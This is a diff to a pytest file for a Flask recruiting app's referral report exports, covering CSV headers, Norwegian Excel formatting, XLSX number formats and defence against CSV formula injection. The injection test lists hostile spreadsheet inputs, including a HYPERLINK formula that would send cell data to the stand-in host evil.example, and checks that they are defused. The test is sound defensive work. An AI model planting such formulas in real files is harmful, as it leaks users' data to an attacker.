@@ -14,6 +14,7 @@ from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
+import openpyxl
 import pytest
 from flask.testing import FlaskClient
 from sqlalchemy import select
@@ -301,7 +302,8 @@ def test_invalid_month_page_is_404(client: FlaskClient, session: Session, tenant
 def test_csv_opens_cleanly(client: FlaskClient, session: Session, tenant: Any, refs: dict) -> None:
     sign_in(client, session, tenant.id)
     response = client.get("/reports/referrals/2026-03.csv")
-    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="referral-report-2026-03.csv"'
     raw = response.get_data()
     assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
     table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
@@ -314,6 +316,60 @@ def test_csv_opens_cleanly(client: FlaskClient, session: Session, tenant: Any, r
     sections = list(dict.fromkeys(row[0] for row in table[1:]))
     assert sections == ["Referrals", "By channel", "By referrer", "Conversion ladder", "Hires by source",
                         "Days to hire (median)", "Active top references", "Follow-ups"]
+
+
+def test_csv_in_norwegian_opens_in_norwegian_excel(client: FlaskClient, session: Session, tenant: Any,
+                                                   refs: dict) -> None:
+    """Norwegian Excel splits on `;` and reads a decimal comma; the BOM keeps æøå."""
+    recruiter = sign_in(client, session, tenant.id)
+    recruiter.language = "nb"
+    session.commit()
+    raw = client.get("/reports/referrals/2026-03.csv").get_data()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert table[0] == ["Seksjon", "Post", "2026-03", "2026-02", "2025-03"]
+    assert all(len(row) == 5 for row in table)
+    assert ["Per anbefaler", "Bjørn Ærø", "1", "0", "0"] in table
+    assert ["Ansettelser per kilde", "Andel ansettelser via anbefaling (%)", "60,0", "0,0", ""] in table
+    assert ["Dager til ansettelse (median)", "Andre kilder", "29,5", "9,0", ""] in table
+
+
+def test_xlsx_holds_numbers_with_number_formats(client: FlaskClient, session: Session, tenant: Any,
+                                               refs: dict) -> None:
+    sign_in(client, session, tenant.id)
+    page = client.get("/reports/referrals/2026-03").get_data(as_text=True)
+    assert 'href="/reports/referrals/2026-03.xlsx"' in page
+    response = client.get("/reports/referrals/2026-03.xlsx")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
+    rows = {(row[0].value, row[1].value): row[2:] for row in sheet.iter_rows(min_row=2)}
+    assert [c.value for c in next(sheet.iter_rows(max_row=1))] == ["Section", "Item", "2026-03", "2026-02", "2025-03"]
+    assert [c.value for c in rows[("Referrals", "Referrals")]] == [3, 1, 1]
+    share = rows[("Hires by source", "Referral share of hires (%)")]
+    assert [c.value for c in share] == [0.6, 0.0, None] and share[0].number_format == "0.0%"
+    median = rows[("Days to hire (median)", "Other sources")]
+    assert median[0].value == 29.5 and median[0].data_type == "n"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klikk")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\r=1+1"]
+
+
+def test_csv_defuses_referrer_names_a_spreadsheet_would_run(client: FlaskClient, session: Session,
+                                                            tenant: Any) -> None:
+    """OWASP's CSV injection: a cell starting with = + - @ tab or CR is a formula to Excel and LibreOffice; a
+    leading apostrophe makes it text. The counts beside the names stay plain numbers."""
+    f = Fixture(session, tenant.id)
+    for name in FORMULAS:
+        f.referral(f.reference(name), "2026-03-05 10:00", "linkedin", "received")
+    session.commit()
+    sign_in(client, session, tenant.id)
+    raw = client.get("/reports/referrals/2026-03.csv").get_data()
+    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    referrers = {row[1]: row[2:] for row in table if row[0] == "By referrer"}
+    assert referrers == {"'" + name: ["1", "0", "0"] for name in FORMULAS}
+    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert ["Referrals", "Referrals", "6", "0", "0"] in table
 
 
 def test_json_and_regenerate_page(client: FlaskClient, session: Session, tenant: Any, refs: dict) -> None:
